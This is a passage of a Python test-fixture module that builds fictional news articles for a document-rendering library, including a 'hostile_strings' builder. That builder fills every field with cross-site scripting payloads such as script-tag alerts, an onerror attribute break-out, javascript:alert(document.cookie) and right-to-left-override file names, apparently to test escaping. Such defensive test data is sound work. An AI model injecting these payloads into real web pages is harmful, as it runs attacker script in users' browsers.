              "Video: a day at Skerry Point lighthouse in 1994",
              p(strong("Keeper:"), " We wound the clockwork every half hour, all night."),
              p(strong("Keeper:"), " In fog you sounded the horn until it lifted. "
                "Sometimes that was two days."),
              captions="https://media.riversidecourier.example/video/lighthouse-keepers.vtt"),
        "Archive footage shows the routine of the last crew at Skerry Point.",
        media("video",
              "https://media.riversidecourier.example/video/lamp-room.mp4",
              "Video: inside the lamp room, without narration",
              p("The camera circles the lens as it turns. There is no speech; the only "
                "sound is the hum of the motor and wind against the glass.")),
        h(2, "Listen"),
        media("audio",
              "https://media.riversidecourier.example/audio/keepers-podcast-ep3.mp3",
              "Podcast: The Keepers, episode 3",
              h(3, "Transcript"),
              p(strong("Presenter:"), " Margaret, what did you miss most when you came "
                "ashore?"),
              p(strong("Margaret Innes:"), " The quiet. And the stars. You never see stars "
                "like that in a town."),
              p(strong("Presenter:"), " And what didn't you miss?"),
              p(strong("Margaret Innes:"), " Tinned peaches. Three months of tinned "
                "peaches.")),
        kicker="Features",
        bylines=["Alasdair Munro"],
        published="2024-11-02T10:00:00Z",
        site_name="The Riverside Courier",
    )


_ZALGO = "Z\u0324\u0354\u0367\u0311\u0313a\u0308\u0356\u032dl\u036e\u0312\u036bg\u030c\u0317o"


def hostile_strings() -> Document:
    """Hostile strings in every string field: script tags, attribute break-outs,
    javascript: as text, entities, CDATA and comment openers, quotes and
    apostrophes, emoji with ZWJ, combining characters, U+202E overrides."""
    xss = "<script>alert(1)</script>"
    attr = '"><img src=x onerror=alert(1)>'
    meta = Metadata(
        title=f"Why ‘{xss}’ keeps turning up in reader comments",
        language="en",
        kicker=f'Security {attr}',
        standfirst=inlines(
            "Typing ", code("javascript:alert(document.cookie)"),
            " into a comment box should do nothing. On too many sites it still does — "
            "and that's a problem 🙃.",
        ),
        bylines=("Zoë O'Connor-Nuñez", 'Sam "The Fixer" Adeyemi', "Ama\u0301ra Diallo",
                 "👩\u200d💻 Security desk <desk@bits.example>"),
        dateline="LONDON ]]> <!--",
        published="2024-02-29T09:00:00-05:00",
        updated="2024-02-29T23:59:59.999+14:00",
        site_name="Bits & Bytes &amp; Co",
        url="https://bits.example/security/script-alert?ref=%22%3E%3Cscript%3E&utm=1",
    )
    body: tuple[Block, ...] = (
        p("The string ", code(xss), " is the hello-world of cross-site scripting. If a page "
          "shows a pop-up saying 1, the site has treated your words as code."),
        p("Attackers also try ", code(attr), ", which closes an attribute early, and links "
          "that start with javascript: instead of https:. Writing javascript:alert(1) as "
          "plain text, as this sentence does, must leave it plain text. So must ", xss,
          " and ", attr, " when they appear in a sentence."),
        p("Other troublemakers are entity look-alikes such as &amp; and &lt;b&gt; and "
          "&#x3C;, the CDATA terminator ]]>, the comment opener <!-- and its partner -->, "
          "and quotes of every kind: \" ' ‘ ’ “ ” « » „ ‹ ›."),
        hid(2, f"What <b>bold</b> looks like {xss}", id='x"><script>alert(2)</script>'),
        p("Unicode adds its own traps. The right-to-left override, U+202E, reverses what "
          "follows it, so a file called \u202egpj.exe\u202c looks as if it ends in .jpg. "
          "Zero-width joiners glue emoji together: 👩\u200d👩\u200d👧 is one family and "
          "🏳️\u200d🌈 one flag. Combining marks stack: ", em(_ZALGO),
          " piles accents on every letter, and e\u0301 is an e followed by an acute accent."),
        p("Read ", Link(inlines("the cheat sheet"),
                        href="https://owasp.example/cheatsheets/xss?a=1&b=2",
                        title='Opens "XSS" <cheat sheet> & more'),
          " on ", abbr("XSS", f"cross-site scripting {xss}"), ", written up on ",
          time(f"<time> 9 o'clock {attr}", "2024-02-29T09:00:00-05:00"), ". Its first rule: ",
          q(f"never put untrusted data in a {xss} block"), ". In Hebrew, ",
          lang_span("he", "אל תריצו קוד זר"), " (", strong("don't run foreign code"), ")."),
        figure(
            "https://img.bits.example/xss-alert.png?w=800&h=450",
            f'A pop-up window reading "1" over a news page {xss}',
            caption=["The alert box: harmless, but proof that code ran ", code("]]>")],
            credit=f"Screenshot: Bits & Bytes {attr}",
            width=800,
            height=450,
        ),
        Table(
            caption=inlines(f"Payloads & where they hide {attr}"),
            head=(tr(th("Payload", scope="col"), th("Where it hides", scope="col"),
                     th("What it <em>does</em>", scope="col")),),
            body=(
                tr(th(code(xss), scope="row"), td("A comment body"), td("Runs a script")),
                tr(th(code(attr), scope="row"), td("A profile name put in an attribute"),
                   td("Adds an element with a handler")),
                tr(th("javascript:alert(1)", scope="row"), td("A website field on a form"),
                   td("Runs when the link is clicked")),
                tr(th("\u202eexe.txt", scope="row"), td("A file name"),
                   td("Looks like a text file \u202e")),
            ),
        ),
        codeblock(
            "<!-- a template with every hazard -->\n"
            "<![CDATA[ x ]]>\n"
            f"<p title='{attr}'>{xss}</p>\n"
            "</pre></textarea></code></script><script>alert(3)</script>\n"
            "<a href=\"javascript:alert(4)\">click</a> &amp; &lt; &gt; &quot; &#39;\n",
            "html",
        ),
        quote(
            "“Never trust input,” as every ‘secure coding’ poster says. It's still true.",
            by=['Sam "The Fixer" Adeyemi, ', em(f"speaking at {xss}")],
            cite="https://bits.example/talks/never-trust-input?x=%3C%3E",
        ),
        ul(xss, attr, "javascript:alert(1)", "&amp; ]]> <!-- -->", "' \" ` \\",
           "😀 👍🏽 🇫🇷 👨\u200d👩\u200d👧\u200d👦", "e\u0301 n\u0303 a\u030a", _ZALGO),
        Aside("Try it <safely> & see", (p(f"Paste {xss} into our test page: nothing should "
                                           "happen."),), id="try-it"),
        Aside('Editor\'s note: "quotes" & <tags>',
              (p("This article was updated to add the table of payloads."),), kind="note"),
        Media("video", "https://media.bits.example/xss-demo.mp4?t=10&s=%3C",
              f'<video> "Demo" & walkthrough {attr}',
              transcript=(p(f"Presenter: watch what happens when I submit {xss}."),),
              captions="https://media.bits.example/xss-demo.vtt?lang=en&x=%22"),
    )
    regions = (
        region("navigation",
               ul(link("/", "Home <b>"), link("/security?tag=%3Cscript%3E", f"Tag: {xss}")),
               label='Menu "main" <nav>'),
        region("notice", p(f"Cookie notice: we set cookies & {attr}"),
               label=f"Cookies {xss}"),
        region("complementary", ul(link("/security/csp", "How CSP works & why")),
               label=f"Related {xss}"),
        region("contentinfo", p("© 2024 Bits & Bytes — ]]> <!-- --> \u202eCBA")),
    )
    return Document(meta, body, regions)


_LIVE_ENTRIES: tuple[tuple[str, str, str, str], ...] = (
    ("16:45", "16:45:00", "Red warning lifted",
     "The Met Office has lifted the red wind warning for the coast. An amber warning "
     "remains in force until midnight."),
    ("16:20", "16:20:00", "Power restored to 9,000 homes",
     "Engineers have reconnected about 9,000 homes in Quayside and Old Town. Around "
     "14,000 are still without electricity."),
    ("15:58", "15:58:00", "Schools to open tomorrow",
     "The council says all schools will open as normal on Monday, apart from Hillcrest "
     "Primary, where part of the roof was damaged."),
    ("15:31", "15:31:00", "Gust of 94mph recorded",
     "The highest gust of the day, 94mph, was recorded at Skerry Point at 15:10."),
    ("15:02", "15:02:00", "Trains suspended on the coast line",
     "Rail services between Riverside and Harbourside are suspended after a tree fell on "
     "the line near Millbrook."),
    ("14:40", "14:40:00", "Reader photo: the promenade",
     "Waves breaking over the railings on the promenade, sent in by a reader who watched "
     "from a safe distance."),
    ("14:12", "14:12:00", "Police: stay away from the seafront",
     "Officers have closed the seafront road and are asking people not to go near the "
     "water to take pictures."),
    ("13:47", "13:47:00", "Ferries cancelled for the rest of the day",
     "All sailings from the harbour have been cancelled until Monday morning."),
    ("13:20", "13:20:00", "Rest centre opens",
     "A rest centre has opened at the Guildhall for people who have had to leave their "
     "homes. Pets are welcome."),
    ("12:55", "12:55:00", "Bridge closed to high-sided vehicles",
     "Millbrook Bridge is closed to lorries, vans and caravans until the wind drops."),
    ("12:30", "12:30:00", "First power cuts reported",
     "The electricity network says 23,000 homes are without power, most of them along "
     "the coast."),
    ("12:04", "12:04:00", "Football match postponed",
     "This afternoon's match between Harbour City and Northgate has been postponed."),
    ("11:41", "11:41:00", "Tree falls on parked cars",
     "No one was hurt when a beech tree came down on Church Lane, crushing two cars."),
    ("11:15", "11:15:00", "Flood barrier gates closed",
     "The temporary gates on the lower quay were closed two hours ahead of high tide."),
    ("10:50", "10:50:00", "Bus services reduced",
     "Riverside Buses is running a reduced timetable and has withdrawn its coastal "
     "routes."),
    ("10:22", "10:22:00", "Red warning now in force",
     "The red warning, meaning a danger to life from flying debris, started at 10:00."),
    ("09:58", "09:58:00", "What a red warning means",
     "Stay indoors if you can. Secure loose objects in gardens and keep away from "
     "windows facing the wind."),
    ("09:30", "09:30:00", "Welcome to our live coverage",
     "Storm Edda is expected to bring the strongest winds to the coast in more than ten "
     "years. We will bring you updates throughout the day."),
)


def live_blog() -> Document:
    """A live blog: many short timed entries, newest first, each a level-2
    heading holding a Time inline, with heading ids."""
    body: list[Block] = [
        p(strong("Key points:"), " red warning lifted; 14,000 homes without power; trains "
          "and ferries suspended; rest centre open at the Guildhall."),
    ]
    for shown, clock, title, text in _LIVE_ENTRIES:
        body.append(hid(2, time(shown, f"2024-12-08T{clock}Z"), " ", title,
                        id=f"entry-{clock[:5].replace(':', '')}"))
        body.append(p(text))
    return doc(
        "Live: Storm Edda brings 94mph gusts and power cuts to the coast",
        *body,
        kicker="Live",
        bylines=["Martha Quinn", "Oliver Grant"],
        published="2024-12-08T09:30:00Z",
        updated="2024-12-08T16:45:00Z",
        site_name="The Riverside Courier",
        standfirst="Updates as Storm Edda crosses the coast.",
    )


_SPEAKERS = (
    "The harbour master", "Counsel to the inquiry", "A former pilot", "The port's finance "
    "director", "An engineer from the dredging firm", "The chair", "A fisherman from Quayside",
    "The coastguard's duty officer", "A marine surveyor", "The council's solicitor",
    "A ferry captain", "An environmental consultant", "The union representative",
)
_VERBS = (
    "told the inquiry that", "said under questioning that", "accepted that",
    "insisted that", "recalled that", "denied that", "agreed that", "wrote in a statement that",
    "could not say whether",
)
_CLAUSES = (
    "the channel had not been dredged to its charted depth since the spring",
    "warnings about the eastern buoy were passed on by radio",
    "the night shift was one person short",
    "the tide tables on the harbour website were a day out of date",
    "the pilot boat was being repaired at the time",
    "the budget for maintenance had been cut two years running",
    "nobody had checked the mooring lines after the storm",
    "the radar on the control tower had failed twice that week",
    "the ship's master had asked for a tug and been refused",
    "the harbour's risk register listed the sandbank as a low risk",
    "the logbook entries for that evening were written up the next day",
)
_SECOND = (
    "The hearing continues.",
    "Documents shown to the inquiry appeared to support that account.",
    "That was disputed by other witnesses.",
    "The chair asked for the relevant emails to be produced.",
    "No one else in the room challenged it.",
    "It was the first time the point had been raised in public.",
    "",
)


def _long_paragraph(i: int) -> Paragraph:
    speaker = _SPEAKERS[i % len(_SPEAKERS)]
    verb = _VERBS[(i // len(_SPEAKERS)) % len(_VERBS)]
    clause = _CLAUSES[(i * 7 + i // 3) % len(_CLAUSES)]
    second = _SECOND[(i * 5) % len(_SECOND)]
    figure_ = (i * 37) % 900 + 100
    first = f"{speaker} {verb} {clause}."
    rest = f" {second}" if second else ""
    rest += f" Exhibit {i + 1} runs to {figure_} pages."
    if i % 9 == 0:
        return p(first, " ", em("That is not in dispute."), rest)
    if i % 25 == 3:
        return p(first, rest, " ", link(f"/inquiry/exhibits/{i + 1}", f"Read exhibit {i + 1}"),
                 ".")
    if i % 31 == 5:
        return p(first, " The ", abbr("MCA", "Maritime and Coastguard Agency"),
                 " was informed.", rest)
    return p(first + rest)


def long_2000() -> Document:
    """A very long article: 2,000 paragraphs of deterministic, varied sentences
    with a heading every 100 paragraphs (for speed and streaming tests)."""
    body: list[Block] = []
    for i in range(2000):
        if i % 100 == 0:
            body.append(h(2, f"Day {i // 100 + 1} of evidence"))
        body.append(_long_paragraph(i))
    return doc(
        "The harbour inquiry: the full record of evidence",
        *body,
        kicker="Harbour inquiry",
        bylines=["Inquiry reporting team"],
        published="2024-03-01T18:00:00Z",
        site_name="The Riverside Courier",
    )


def court_ruling() -> Document:
    """Court report: emphasis and strong, a cited block quote from a judgment, an
    ordered list of findings, separators and date Times."""
    return doc(
        "Supreme Court rules delivery riders are workers, not contractors",
        p("Delivery riders for the app ", em("Zoomly"), " are entitled to the minimum wage "
          "and holiday pay, the Supreme Court ruled on ", time("Wednesday", "2024-10-16"),
          ", in a decision that could affect ", strong("tens of thousands"),
          " of people who work through apps."),
        "The company had argued that its riders were self-employed because they could "
        "choose when to log in and could send someone else to do a delivery in their place.",
        quote(
            "The freedom to log off is not the freedom to set one's own terms. The riders "
            "could not negotiate their pay, and the substitution right existed on paper "
            "alone.",
            by="Lady Justice Marr, giving the unanimous judgment",
            cite="https://courts.example/judgments/2024/uksc-41",
        ),
        h(2, "What the court found"),
        ol(
            "The riders were workers within the meaning of the Employment Rights Act.",
            "Time spent logged in and waiting for orders counts as working time.",
            "The contract's substitution clause did not reflect reality.",
        ),
        separator(),
        "Zoomly said it was disappointed and would study the judgment. The riders' union "
        "called it a historic day.",
        separator(),
        p(em("This article was amended on "), time("17 October 2024", "2024-10-17"),
          em(" to correct the name of the judge.")),
        kicker="Law",
        bylines=["Harriet Cole, Legal Affairs Correspondent"],
        published="2024-10-16T11:02:00+01:00",
        updated="2024-10-17T08:15:00+01:00",
        site_name="The Riverside Courier",
    )


def match_report() -> Document:
    """Sports report: a statistics table with an empty top-left data cell and
    row headers, line-up lists with numbers, inline Time and emphasis."""
    stats = Table(
        caption=inlines("Match statistics"),
        head=(tr(td(), th("Harbour City", scope="col"), th("Northgate", scope="col")),),
        body=(
            tr(th("Possession", scope="row"), td("58%"), td("42%")),
            tr(th("Shots", scope="row"), td("14"), td("9")),
            tr(th("Shots on target", scope="row"), td("6"), td("3")),
            tr(th("Corners", scope="row"), td("7"), td("4")),
            tr(th("Yellow cards", scope="row"), td("2"), td("4")),
        ),
    )
    return doc(
        "Late penalty sends Harbour City into the cup final",
        p("Harbour City 2 Northgate 1. Kasia Nowak scored from the penalty spot in the ",
          time("94th minute", "2024-04-20T16:49:00+01:00"),
          " to send Harbour City to their first county cup final since 1987."),
        "Northgate had led through a first-half header from their captain, Jordan Reese, "
        "before substitute Tyrell Banks equalised with twenty minutes left.",
        "The penalty was awarded after a long video review for a handball that the "
        "Northgate bench insisted was accidental.",
        stats,
        h(2, "Line-ups"),
        h(3, "Harbour City"),
        ol("Alfie Ward", "Ben Okoro", "Sam Lund", "Kasia Nowak", "Ravi Patel"),
        h(3, "Northgate"),
        ol("Chris Hale", "Jordan Reese", "Mo Salah-Eddine", "Luke Brandt", "Piotr Zielinski"),
        p(em("Both squads are listed as the first five named; the full teams are on the "
             "club websites.")),
        kicker="Football",
        bylines=["Niamh Keane"],
        dateline="RIVERSIDE",
        published="2024-04-20T17:30:00+01:00",
        site_name="The Riverside Courier",
    )


def exoplanet() -> Document:
    """Science story: abbreviations (JWST, NASA, ESA), Unicode subscripts and
    superscripts, figures with and without dimensions, links with titles."""
    return doc(
        "Astronomers find water vapour on a temperate world 120 light years away",
        p("Astronomers using the ", abbr("JWST", "James Webb Space Telescope"),
          " have detected water vapour, methane and carbon dioxide (CO₂) in the atmosphere "
          "of K2-18 c, a planet about 2.6 times the size of Earth that orbits in its star's "
          "habitable zone."),
        figure("https://images.riversidecourier.example/2024/07/k2-18c-spectrum.png",
               "A chart of the planet's transmission spectrum with peaks labelled H₂O, CH₄ "
               "and CO₂ between 1 and 5 micrometres",
               caption="The dips in starlight that reveal each molecule.",
               credit=["Data: ", abbr("NASA", "National Aeronautics and Space Administration"),
                       ", ", abbr("ESA", "European Space Agency")],
               width=1400, height=900),
        "The team stressed that water vapour alone is not a sign of life. The planet may "
        "be covered by a deep ocean, or it may be a small gas giant with no surface at all.",
        p("Light from the star takes about 120 years to reach us; the planet receives "
          "roughly 1.3 × 10³ watts per square metre, similar to Earth. The results are "
          "published in ",
          Link(inlines(em("The Astrophysical Journal Letters")),
               href="https://journals.example/apjl/2024/k2-18c",
               title="Opens the paper on the publisher's website"),
          "."),
        figure("/images/2024/07/k2-18c-artist.jpg",
               "An artist's impression of a blue planet in front of a small red star",
               credit="Illustration: ESA/Hubble"),
        kicker="Science",
        bylines=["Dr Yusuf Karim, Science Editor"],
        published="2024-07-24T19:00:00Z",
        site_name="The Riverside Courier",
    )


def weather_warning() -> Document:
    """Page regions around a short article: banner, one navigation, a notice with
    a label, a contentinfo; body with a forecast table whose header cells have
    no scope (inferred) and a list of affected areas."""
    forecast = Table(
        caption=inlines("Forecast for the weekend"),
        head=(tr(th("Day"), th("Wind"), th("Rain")),),
        body=(
            tr(th("Saturday"), td("Gusts to 70mph"), td("20–30mm")),
            tr(th("Sunday"), td("Gusts to 45mph"), td("5–10mm")),
        ),
    )
    return doc(
        "Amber warning for wind and rain this weekend",
        "Forecasters have issued an amber warning for wind and rain from Saturday morning "
        "until Sunday afternoon, with the strongest gusts on exposed coasts.",
        forecast,
        h(2, "Areas covered by the warning"),
        ul("Riverside and the Millbrook valley", "Harbourside and Quayside",
           "The northern hills above 300 metres"),
        "Drivers are advised to avoid the coast road where possible.",
        regions=[
            region("banner", p(strong("The Riverside Courier"), " — Weather")),
            region("navigation",
                   ul(link("/weather", "Forecast"), link("/weather/warnings", "Warnings"),
                      link("/weather/tides", "Tide times")),
                   label="Weather sections"),
            region("notice",
                   p(strong("Amber warning"), " from ", time("6am Saturday",
                                                            "2024-11-23T06:00:00Z"),
                     " to ", time("3pm Sunday", "2024-11-24T15:00:00Z"), "."),
                   label="Active warning"),
            region("contentinfo", p("Weather data: National Weather Service.")),
        ],
        kicker="Weather",
        published="2024-11-22T10:00:00Z",
        site_name="The Riverside Courier",
    )


def obituary() -> Document:
    """An obituary: year-only and year-month Times, a French inline quote with a
    cite URL, a block quote with multi-inline attribution and a figure with
    caption and credit."""
    return doc(
        "Marguerite Oyelaran, who built the city's branch libraries, dies at 91",
        p("Marguerite Oyelaran, the architect who designed eleven of the city's branch "
          "libraries, has died aged 91. She was born in Lagos in ", time("1933", "1933"),
          " and came to Riverside in ", time("April 1961", "1961-04"),
          " after studying in Paris."),
        figure("/images/2024/03/oyelaran-1972.jpg",
               "A woman in a checked coat stands in front of a low brick library with "
               "tall windows",
               caption="Oyelaran outside Hillcrest Library, which opened in 1972.",
               credit="Photograph: Riverside City Archives"),
        p("She liked to quote her teacher at the École des Beaux-Arts, who told students "
          "that ", lang_q("fr", "une bibliothèque doit être la plus belle maison du quartier",
                          cite="https://archives.example/beaux-arts/1958"),
          ": a library should be the finest house in the neighbourhood."),
        quote("She made buildings that children wanted to walk into.",
              by=[strong("Dame Ruth Okonjo"), ", former city librarian"]),
        "She is survived by her son, two grandchildren and the libraries, ten of which are "
        "still open.",
        kicker="Obituary",
        bylines=["Peter Lindqvist"],
        published="2024-03-18T06:00:00Z",
        site_name="The Riverside Courier",
    )


_Builder = Callable[[], Document]

#: Slug -> builder, in a stable order.
_BUILDERS: dict[str, _Builder] = {
    "kitchen-sink": kitchen_sink,
    "minimal": minimal,
    "standfirst-only": standfirst_only,
    "nested-lists": nested_lists,
    "election-tables": election_tables,
    "timetable-spans": timetable_spans,
    "photo-essay": photo_essay,
    "quotes-testimony": quotes_testimony,
    "security-advisory": security_advisory,
    "arabic-desalination": arabic_desalination,
    "japanese-typhoon": japanese_typhoon,
    "multilingual-signs": multilingual_signs,
    "abbreviations-links": abbreviations_links,
    "heading-levels": heading_levels,
    "asides-notes": asides_notes,
    "media-transcripts": media_transcripts,
    "hostile-strings": hostile_strings,
    "live-blog": live_blog,
    "court-ruling": court_ruling,
    "match-report": match_report,
    "exoplanet": exoplanet,
    "weather-warning": weather_warning,
    "obituary": obituary,
    "long-2000": long_2000,
}


@cache
def _built() -> MappingProxyType[str, Document]:
    return MappingProxyType({slug: build() for slug, build in _BUILDERS.items()})


def corpus() -> dict[str, Document]:
    """Every corpus document by slug (a new dict; the documents are immutable)."""
    return dict(_built())


def write_examples(directory: Path = DOCUMENTS_DIR) -> list[Path]:
    """Write ``<slug>.json`` for every document not in :data:`JSON_EXCLUDED`."""
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for slug, document in corpus().items():
        if slug in JSON_EXCLUDED:
            continue
        path = directory / f"{slug}.json"
        path.write_text(document.to_json(), encoding="utf-8")
        written.append(path)
    return written


if __name__ == "__main__":
    for written_path in write_examples():
        print(written_path.relative_to(ROOT), file=sys.stdout)
